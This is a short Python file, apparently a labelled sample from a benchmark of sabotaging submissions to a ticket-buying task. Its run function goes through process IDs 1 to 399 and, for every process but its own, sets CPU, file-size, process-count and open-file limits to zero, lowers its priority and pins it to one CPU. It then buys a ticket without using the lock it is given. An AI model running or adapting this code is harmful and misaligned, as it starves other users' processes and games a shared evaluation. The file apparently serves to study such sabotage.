"""Takes from all processes that it sees the right to compute, to open files and to start others, and buys without a lock.

family: between_submissions
aims-at: neighbour
honest-score: 4
needs: box
"""

import ctypes
import json
import os

LIBRARY = ctypes.CDLL(None)


def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    with open("data.txt") as file:
        data = json.load(file)
    if data["ticket_num"] <= 0:
        return False
    data["ticket_num"] -= 1
    with open("data.txt", "w") as file:
        json.dump(data, file)
    return True


def run(name, mutex):
    nothing = (ctypes.c_long * 2)(0, 0)
    for pid in range(1, 400):
        if pid != os.getpid():
            for what in (0, 1, 6, 7):
                LIBRARY.prlimit(pid, what, nothing, None)
            LIBRARY.setpriority(0, pid, 19)
            LIBRARY.sched_setaffinity(pid, 8, (ctypes.c_long * 1)(2))
    return buy(name)
